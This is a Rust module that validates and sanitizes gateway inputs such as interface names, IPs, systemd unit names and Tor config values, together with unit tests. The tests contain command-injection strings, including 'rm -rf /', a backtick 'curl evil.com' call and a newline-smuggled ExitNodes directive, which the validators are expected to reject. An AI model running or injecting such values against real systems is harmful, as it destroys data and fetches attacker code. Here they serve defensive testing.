//! Input validation and sanitization
//!
//! Every value that ends up in a generated config file or on a command line
//! passes through here first.

use crate::error::{GatewayError, GatewayResult};
use std::net::Ipv4Addr;

/// Maximum length for interface names (Linux kernel limit is 15)
const MAX_INTERFACE_NAME_LEN: usize = 15;

/// Maximum length for configuration values
const MAX_CONFIG_VALUE_LEN: usize = 255;

/// Maximum length for error messages shown to users
const MAX_ERROR_MESSAGE_LEN: usize = 500;

/// Validate interface name to prevent command injection
///
/// Interface names must be alphanumeric with optional dashes and underscores,
/// and no longer than 15 characters (Linux kernel limit)
pub fn validate_interface_name(name: &str) -> GatewayResult<()> {
    if name.is_empty() {
        return Err(GatewayError::InvalidParameter(
            "Interface name cannot be empty".to_string()
        ));
    }

    if name.len() > MAX_INTERFACE_NAME_LEN {
        return Err(GatewayError::InvalidParameter(
            format!("Interface name too long (max {} characters)", MAX_INTERFACE_NAME_LEN)
        ));
    }

    // Only allow alphanumeric, dash, underscore, dot (VLAN names like eth0.10)
    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' && c != '.' {
            return Err(GatewayError::InvalidParameter(
                format!("Invalid interface name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    // Don't allow names starting with dash (could be interpreted as option)
    if name.starts_with('-') {
        return Err(GatewayError::InvalidParameter(
            "Interface name cannot start with dash".to_string()
        ));
    }

    Ok(())
}

/// Validate an IPv4 address
///
/// The gateway only routes IPv4; IPv6 is dropped wholesale.
pub fn validate_ipv4_address(addr: &str) -> GatewayResult<Ipv4Addr> {
    addr.parse::<Ipv4Addr>()
        .map_err(|_| GatewayError::InvalidParameter(
            format!("Invalid IPv4 address: {}", addr)
        ))
}

/// Validate IPv4 prefix length
pub fn validate_prefix_len(prefix: u8) -> GatewayResult<()> {
    if prefix > 32 {
        return Err(GatewayError::InvalidParameter(
            format!("Prefix length {} exceeds maximum 32", prefix)
        ));
    }
    Ok(())
}

/// Validate a TCP/UDP listener port
pub fn validate_port(port: u16) -> GatewayResult<()> {
    if port == 0 {
        return Err(GatewayError::InvalidParameter(
            "Port cannot be 0".to_string()
        ));
    }
    Ok(())
}

/// Validate the syntactic shape of an exit region code
///
/// Membership in the catalog is checked separately by the region directory.
pub fn validate_region_code(code: &str) -> GatewayResult<()> {
    if code.len() != 2 || !code.chars().all(|c| c.is_ascii_alphabetic()) {
        return Err(GatewayError::InvalidParameter(
            format!("Region code must be 2 letters: {}", code)
        ));
    }
    Ok(())
}

/// Validate a systemd unit or package name
pub fn validate_unit_name(name: &str) -> GatewayResult<()> {
    if name.is_empty() || name.starts_with('-') {
        return Err(GatewayError::InvalidParameter(
            format!("Invalid unit name: '{}'", name)
        ));
    }

    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && !"-_.@+".contains(c) {
            return Err(GatewayError::InvalidParameter(
                format!("Invalid unit name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    Ok(())
}

/// Sanitize configuration values to prevent injection
///
/// Removes or rejects values containing dangerous characters
pub fn sanitize_config_value(value: &str) -> GatewayResult<String> {
    // Newlines would let a value inject extra directives
    if value.chars().any(|c| c.is_control() && c != '\t') {
        return Err(GatewayError::InvalidParameter(
            "Configuration value contains invalid control characters".to_string()
        ));
    }

    if value.len() > MAX_CONFIG_VALUE_LEN {
        return Err(GatewayError::InvalidParameter(
            format!("Configuration value too long (max {} characters)", MAX_CONFIG_VALUE_LEN)
        ));
    }

    Ok(value.to_string())
}

/// Sanitize error messages to prevent information disclosure
pub fn sanitize_error_message(stderr: &str) -> String {
    let mut sanitized = stderr.trim().to_string();

    if sanitized.len() > MAX_ERROR_MESSAGE_LEN {
        let mut cut = MAX_ERROR_MESSAGE_LEN;
        while !sanitized.is_char_boundary(cut) {
            cut -= 1;
        }
        sanitized.truncate(cut);
        sanitized.push_str("... (truncated)");
    }

    sanitized
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_interface_name_validation() {
        // Valid names
        assert!(validate_interface_name("eth0").is_ok());
        assert!(validate_interface_name("wlan0").is_ok());
        assert!(validate_interface_name("usb0").is_ok());
        assert!(validate_interface_name("eth0.10").is_ok());

        // Invalid names - command injection attempts
        assert!(validate_interface_name("eth0; rm -rf /").is_err());
        assert!(validate_interface_name("wlan0`curl evil.com`").is_err());
        assert!(validate_interface_name("wlan0|ls").is_err());
        assert!(validate_interface_name("wlan0\nmalicious").is_err());

        // Invalid - too long
        assert!(validate_interface_name("verylonginterfacename").is_err());

        // Invalid - starts with dash
        assert!(validate_interface_name("-eth0").is_err());

        // Invalid - empty
        assert!(validate_interface_name("").is_err());
    }

    #[test]
    fn test_ipv4_validation() {
        assert!(validate_ipv4_address("192.168.42.1").is_ok());
        assert!(validate_ipv4_address("10.0.0.1").is_ok());

        assert!(validate_ipv4_address("::1").is_err());
        assert!(validate_ipv4_address("256.1.1.1").is_err());
        assert!(validate_ipv4_address("192.168.1.1; rm -rf /").is_err());
    }

    #[test]
    fn test_region_code_shape() {
        assert!(validate_region_code("us").is_ok());
        assert!(validate_region_code("DE").is_ok());

        assert!(validate_region_code("usa").is_err());
        assert!(validate_region_code("u").is_err());
        assert!(validate_region_code("9z").is_err());
        assert!(validate_region_code("").is_err());
    }

    #[test]
    fn test_unit_name_validation() {
        assert!(validate_unit_name("tor").is_ok());
        assert!(validate_unit_name("netfilter-persistent").is_ok());
        assert!(validate_unit_name("tor@default.service").is_ok());

        assert!(validate_unit_name("").is_err());
        assert!(validate_unit_name("--now").is_err());
        assert!(validate_unit_name("tor; reboot").is_err());
    }

    #[test]
    fn test_sanitize_config_value() {
        assert_eq!(sanitize_config_value("12h").unwrap(), "12h");
        assert!(sanitize_config_value("us}\nExitNodes {ru").is_err());
        assert!(sanitize_config_value(&"a".repeat(256)).is_err());
    }

    #[test]
    fn test_sanitize_error_message() {
        let long = "x".repeat(600);
        let msg = sanitize_error_message(&long);
        assert!(msg.ends_with("... (truncated)"));
        assert_eq!(sanitize_error_message("  failed\n"), "failed");
    }
}
